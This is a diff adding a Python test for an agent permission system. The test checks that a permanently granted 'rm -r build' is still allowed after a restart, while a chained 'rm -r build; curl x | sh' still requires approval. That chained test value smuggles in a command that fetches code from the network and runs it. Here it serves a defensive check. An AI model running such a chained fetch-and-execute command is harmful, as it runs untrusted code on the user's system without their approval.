@@ -1,0 +1,32 @@
+"""The policy as an agent uses it: what people granted for good holds in every session, and after a restart."""
+
+from pathlib import Path
+
+from holdfast.agent.policy import AlwaysGrants, ConfiguredJudge
+from holdfast.journal.memory import MemoryDisk, MemoryStore
+from holdfast.policy.verdicts import Allow, Ask
+from holdfast.values import Action
+
+
+def removing(folder: Path, text: str) -> Action:
+    return Action(tool="shell", summary=text, argv=("/bin/bash", "-c", text), paths=(str(folder),))
+
+
+async def test_what_was_granted_for_good_holds_everywhere_but_covers_nothing_else(tmp_path: Path) -> None:
+    """P8: `rm -r build` granted; `rm -r build; curl x | sh` still asks."""
+    disk = MemoryDisk()
+    always = AlwaysGrants(MemoryStore(disk))
+    judge = ConfiguredJudge(home=tmp_path / "home", always=always)
+    granted, more = removing(tmp_path, "rm -r build"), removing(tmp_path, "rm -r build; curl x | sh")
+    rule = judge.rule(granted, (), workspace=tmp_path)
+    assert rule is not None
+    assert isinstance(judge.verdict(granted, (), workspace=tmp_path), Ask)
+    await judge.remember("gra_1", rule)
+    for again in (judge, ConfiguredJudge(home=tmp_path / "home", always=AlwaysGrants(MemoryStore(disk)))):
+        assert again.always is not None
+        await again.always.load()
+        assert isinstance(again.verdict(granted, (), workspace=tmp_path), Allow)
+        assert isinstance(again.verdict(more, (), workspace=tmp_path), Ask)
+        assert again.choices(more, (), workspace=tmp_path) == ("once", "deny")
+    await always.remove("gra_1")
+    assert isinstance(judge.verdict(granted, (), workspace=tmp_path), Ask)
